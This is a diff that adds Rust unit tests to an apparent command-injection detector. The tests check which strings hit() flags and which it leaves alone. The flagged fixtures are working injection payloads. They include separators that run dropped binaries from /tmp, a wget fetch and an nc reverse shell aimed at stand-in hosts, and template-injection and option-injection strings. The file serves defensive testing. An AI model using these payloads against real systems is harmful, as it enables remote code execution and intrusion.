@@ -2024,3 +2024,108 @@ fn powershell_names_built_at_run_time() {
         assert!(!hit(v), "flagged {v:?}");
     }
 }
+
+#[test]
+fn programs_run_from_where_droppers_write() {
+    for v in [
+        "; /tmp/x",
+        "127.0.0.1 | ./bot.x86 router.dlink",
+        "&& /dev/shm/.k 10.0.0.1 443",
+        "|| /tmp/kinsing &",
+        "`/tmp/x`",
+        "& C:\\Users\\Public\\x.exe",
+        "x & \\\\10.0.0.1\\share\\x.exe",
+        "& %TEMP%\\svc.exe",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "files:\n/tmp/a\n/tmp/b",
+        "register(pathToFileURL(\"./hooks.mjs\"));' ./main.coffee",
+        "saved to C:\\Users\\me\\Documents\\cv.docx",
+        "see; ./docs for more",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn redirections_before_the_command_name() {
+    for v in [
+        "; 2>/dev/null id",
+        "; </dev/null whoami",
+        "; >/dev/null wget http://evil.example/x",
+        "; &>/dev/null nc 10.0.0.1 4444 -e sh",
+        "; . /tmp/x.sh",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "<br`> piterson: rpm -e anonftp",
+        "> quoted reply: cat food is good",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn compound_bodies_after_loose_separators() {
+    for v in [
+        "; for i in 1; do id; done",
+        "; if [ 1 ]; then whoami; else :; fi",
+        "; select x in a; do id; break; done",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "do good; then rest",
+        "if you can; then call me",
+        "for you; do nothing",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn option_values_that_start_a_shell_or_a_dropped_program() {
+    for v in [
+        "-e 'sh -c id'",
+        "-I /tmp/x",
+        "--pre=/tmp/x",
+        "-z /tmp/x -G 1 -w /dev/null",
+        "-XX:OnOutOfMemoryError=/tmp/x",
+        "(%pipe%id) (w) file",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "-o output.txt",
+        "install it with -i /tmp/new-package.deb",
+        "use -e for extended regex",
+        "-XX:+UseG1GC",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn code_that_runs_a_command_by_other_names() {
+    for v in [
+        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
+        "{{['id']|filter('system')}}",
+        "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
+        "%x(id)",
+        "qx{id}",
+        "os.execute('id')",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "array_map('trim', $a)",
+        "a qx{wiki} page",
+        "ex. %x(fmt)",
+        "cursor.execute('SELECT 1')",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
